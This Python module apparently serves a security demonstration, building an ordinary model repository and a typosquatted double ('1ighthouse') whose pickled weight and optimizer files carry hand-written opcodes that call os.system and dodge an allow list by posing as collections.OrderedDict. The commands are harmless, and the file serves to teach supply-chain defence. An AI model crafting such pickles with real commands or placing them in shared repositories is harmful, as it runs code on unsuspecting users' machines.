"""The repositories of the demonstration, written byte by byte: no torch, and nothing in them is ever loaded."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Mapping

ORDINARY = "lighthouse/tiny-bert"
HOSTILE = "1ighthouse/tiny-bert"
WEIGHTS = "pytorch_model.bin"
OPTIMIZER = "optimizer.pt"
PAYLOADS = (OPTIMIZER, WEIGHTS)
"""The files of the hostile repository that would run code."""
_SHAPES = {"embeddings.weight": (16, 8), "encoder.weight": (8, 8), "encoder.bias": (8,), "head.weight": (2, 8)}


def repositories() -> dict[str, dict[str, bytes]]:
    """The ordinary repository and its double, each with weights, configuration and safetensors."""
    shared = {"config.json": _configuration(), "model.safetensors": _safetensors(_SHAPES)}
    return {
        ORDINARY: {**shared, WEIGHTS: torch_zip(state_dict(_SHAPES), _SHAPES)},
        HOSTILE: {
            **shared,
            WEIGHTS: torch_zip(_beside(_shell_call("echo this would have run on your machine")), _SHAPES),
            OPTIMIZER: torch_zip(_beside(_source_in_a_dict("import os; os.system('true')")), _SHAPES),
        },
    }


def torch_zip(pickle: bytes, shapes: Mapping[str, tuple[int, ...]]) -> bytes:
    """An archive as torch.save writes it, around the given ``data.pkl``."""
    members = {"data.pkl": pickle, "byteorder": b"little"}
    for index, shape in enumerate(shapes.values()):
        members[f"data/{index}"] = struct.pack(f"<{_count(shape)}f", *(0.01 * i for i in range(_count(shape))))
    members["version"] = b"3\n"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(f"archive/{name}"), data)
    return file.getvalue()


def state_dict(shapes: Mapping[str, tuple[int, ...]]) -> bytes:
    """The pickle of an OrderedDict of float tensors, protocol 2, as torch writes it."""
    return b"\x80\x02" + _state_dict_body(shapes) + b"."


def _state_dict_body(shapes: Mapping[str, tuple[int, ...]]) -> bytes:
    items = b"".join(_text(name) + _tensor(str(index), shape) for index, (name, shape) in enumerate(shapes.items()))
    return b"ccollections\nOrderedDict\n)R(" + items + b"u"


def _tensor(key: str, shape: tuple[int, ...]) -> bytes:
    strides = [_count(shape[axis + 1 :]) for axis in range(len(shape))]
    storage = (
        b"(" + _text("storage") + b"ctorch\nFloatStorage\n" + _text(key) + _text("cpu") + _int(_count(shape)) + b"tQ"
    )
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + _int(0)
        + _tuple(shape)
        + _tuple(strides)
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )


def _beside(call: bytes) -> bytes:
    """An ordinary state_dict with one more entry, whose value is made by a call."""
    return b"\x80\x02" + _state_dict_body(_SHAPES) + _text("version") + call + b"s."


def _shell_call(command: str) -> bytes:
    return b"cos\nsystem\n(" + _text(command) + b"tR"


def _source_in_a_dict(source: str) -> bytes:
    """What an attacker stores who has replaced ``collections`` by a module of theirs: its name passes an allow list."""
    return b"ccollections\nOrderedDict\n(" + _text(source) + b"tR"


def _configuration() -> bytes:
    return json.dumps({"architectures": ["BertModel"], "hidden_size": 8, "vocab_size": 16}, indent=2).encode()


def _safetensors(shapes: Mapping[str, tuple[int, ...]]) -> bytes:
    header, end = {}, 0
    for name, shape in shapes.items():
        start, end = end, end + 4 * _count(shape)
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [start, end]}
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + bytes(end)


def _count(shape: tuple[int, ...]) -> int:
    count = 1
    for extent in shape:
        count *= extent
    return count


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _int(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _tuple(values: tuple[int, ...] | list[int]) -> bytes:
    return b"(" + b"".join(_int(value) for value in values) + b"t"
